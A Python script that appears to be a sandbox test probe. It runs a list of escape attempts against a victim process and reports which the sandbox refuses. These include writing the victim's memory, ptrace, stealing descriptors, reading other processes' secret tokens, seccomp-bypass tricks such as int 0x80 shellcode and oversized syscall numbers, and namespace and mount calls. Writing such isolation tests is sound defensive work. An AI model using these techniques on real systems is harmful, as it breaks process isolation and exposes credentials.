"""What hostile host code tries against its machine and its judges: run as a program, prints a JSON object {attempt: what it got}.

Every value is "refused", or says what succeeded. Uses no package, so that it also runs where only the system's Python may be read.
Arguments: the victim's process id, the address of eight bytes of it, a folder that is not the guest's, the port and the path of listening sockets."""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import json
import mmap
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from typing import Any

_libc = ctypes.CDLL(None, use_errno=True)


class _Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def _call(number: int, *arguments: Any) -> int:
    """Whole registers: what a filter looks at is half of one."""
    result = int(_libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments)))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attempts(victim: int, address: int, folder: str, port: int, path: str) -> dict[str, Callable[[], Any]]:
    """The attempts by name; each raises OSError where it is refused."""

    def write_memory() -> None:
        with open(f"/proc/{victim}/mem", "r+b", buffering=0) as file:
            file.seek(address)
            file.write(b"CONQUERS")

    def vm(number: int, content: bytes) -> bytes:
        mine = ctypes.create_string_buffer(content, 8)
        here, there = _Iovec(ctypes.addressof(mine), 8), _Iovec(address, 8)
        _call(number, victim, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        return mine.raw

    def connect(kind: int, to: Any) -> None:
        with socket.socket(kind, socket.SOCK_STREAM) as client:
            client.settimeout(2)
            client.connect(to)

    def signals(number: int) -> list[int]:
        reached = []
        for process in (victim, os.getppid()):
            with contextlib.suppress(OSError):
                os.kill(process, 0 if process != victim else number)
                reached.append(process)
        if not reached:
            raise PermissionError
        return reached

    def write(name: str) -> None:
        with open(name, "w") as file:
            file.write("x")
        os.unlink(name)

    def secrets() -> list[str]:
        found = [name for name in os.environ if "TOKEN" in name or "SECRET" in name]
        for process in os.listdir("/proc"):
            if process.isdigit():
                with contextlib.suppress(OSError), open(f"/proc/{process}/environ", "rb") as file:
                    found += [process for _ in range(file.read().count(b"SECRET_TOKEN="))]
        if not found:
            raise PermissionError
        return found

    def take_socket() -> int:
        with contextlib.suppress(OSError):
            os.readlink(f"/proc/{victim}/fd/0")
            return 1
        pidfd = _call(434, victim, 0)
        return _call(438, pidfd, 0, 0)

    def limits() -> Any:
        if not hasattr(resource, "prlimit"):
            raise PermissionError
        return resource.prlimit(victim, resource.RLIMIT_NOFILE, (64, 64))

    other = os.path.join(folder, "planted")
    return {
        **around_the_filter(victim),
        "read memory": lambda: open(f"/proc/{victim}/mem", "rb").close(),
        "write memory": write_memory,
        "process_vm_readv": lambda: vm(310, b""),
        "process_vm_writev": lambda: vm(311, b"CONQUERS"),
        "ptrace": lambda: _call(101, 16, victim, 0, 0),
        "take a descriptor": take_socket,
        "stop": lambda: signals(signal.SIGSTOP),
        "kill": lambda: signals(signal.SIGKILL),
        "limits": limits,
        "write a file": lambda: write(other),
        "write to /tmp": lambda: write(f"/tmp/planted-{os.getpid()}"),
        "write to a file of others in /tmp": lambda: os.close(os.open(f"/tmp/of-all-{victim}", os.O_WRONLY)),
        "write to /dev/shm of all": lambda: os.stat(f"/dev/shm/of-all-{victim}"),
        "hold a lease": lambda: fcntl.fcntl(os.open(f"/tmp/of-all-{victim}", os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_RDLCK),
        "change a mode": lambda: os.chmod(folder, 0o777),
        "change a sysctl": lambda: open("/proc/sys/kernel/core_pattern", "w").close(),
        "press a system key": lambda: open("/proc/sysrq-trigger", "w").close(),
        "secrets": secrets,
        "connect over IP": lambda: connect(socket.AF_INET, ("127.0.0.1", port)),
        "connect to a path": lambda: connect(socket.AF_UNIX, path),
        "connect to a name": lambda: connect(socket.AF_UNIX, "\0" + path),
        "new namespaces": lambda: _call(272, 0x10000000),
        "mount": lambda: _call(165, b"none", b"/tmp", b"tmpfs", 0, 0),
    }


def around_the_filter(victim: int) -> dict[str, Callable[[], Any]]:
    """System calls that the filter refuses, and other ways of making them."""
    high = 1 << 32  # the kernel takes the lower half of such numbers
    space = ctypes.create_string_buffer(256)

    def by_32_bits() -> int:
        memory = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        memory.write(b"\xb8\x14\x00\x00\x00\xcd\x80\x48\x98\xc3")  # mov eax, 20 (getpid there); int 0x80; cdqe; ret
        place = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        found = int(ctypes.CFUNCTYPE(ctypes.c_long)(place)())
        if found != os.getpid():
            raise PermissionError
        return found

    def lease() -> int:
        file = os.open(f"/tmp/of-all-{victim}", os.O_RDONLY)
        try:
            return _call(72, file, high | fcntl.F_SETLEASE, fcntl.F_RDLCK)
        finally:
            os.close(file)

    def into_namespaces() -> int:
        child = _call(56, 0x10000000 | 0x02000000 | signal.SIGCHLD, 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        os.waitpid(child, 0)
        return child

    def timer() -> int:
        event = struct.pack("Qii48x", 0, int(signal.SIGCONT), 0)
        return _call(222, 1, event, space)

    def ring() -> int:
        return _call(425, 8, space)

    return {
        "a call of 32 bits": by_32_bits,
        "a call of x32": lambda: _call(0x40000000 | 39),
        "a ring of calls": ring,
        "a lease by a longer number": lease,
        "a signal by a longer number": lambda: _call(62, os.getpid(), high | signal.SIGCONT),
        "go on": lambda: os.kill(os.getpid(), signal.SIGCONT),
        "a timer that makes it go on": timer,
        "outlive its parent": lambda: _call(157, 1, 0),
        "outlive its parent by a longer number": lambda: _call(157, high | 1, 0),
        "a child in new namespaces": into_namespaces,
        "a child by clone3": lambda: _call(435, space, 88),
        "faults that it handles": lambda: _call(323, 1),
        "counters of others": lambda: _call(298, space, victim, -1, -1, 0),
        "programs in the kernel": lambda: _call(321, 0, space, 120),
        "keys of the kernel": lambda: _call(250, 0, -5, 1),
        "a file by its handle": lambda: _call(304, -100, space, 0),
        "a file system": lambda: _call(430, b"tmpfs", 0),
        "a copy of a mount": lambda: _call(428, -100, b"/", 1),
        "advice for others": lambda: _call(440, -1, 0, 0, 0, 0),
        "tables of segments": lambda: _call(154, 0, space, 256),
        "sockets of the kernel": lambda: socket.socket(16, socket.SOCK_RAW).close(),
        "ciphers of the kernel": lambda: socket.socket(38, socket.SOCK_SEQPACKET).close(),
        "packets": lambda: socket.socket(17, socket.SOCK_RAW).close(),
    }


def main() -> None:
    victim, address, folder, port, path = sys.argv[1:6]
    found: dict[str, str] = {}
    for name, attempt in attempts(int(victim), int(address), folder, int(port), path).items():
        try:
            found[name] = f"succeeded: {attempt()}"
        except OSError as error:
            found[name] = "refused" if error.errno is None or error.errno > 0 else str(error)
    if len(sys.argv) > 6:  # a daemon: two forks, a session of its own, no descriptor of ours
        code = "import os, time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\nos.execv('/bin/sleep', ['sleep', '" + sys.argv[6] + "'])"
        subprocess.run([sys.executable, "-c", code], check=False, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(0.1)
    print(json.dumps(found))


if __name__ == "__main__":
    main()
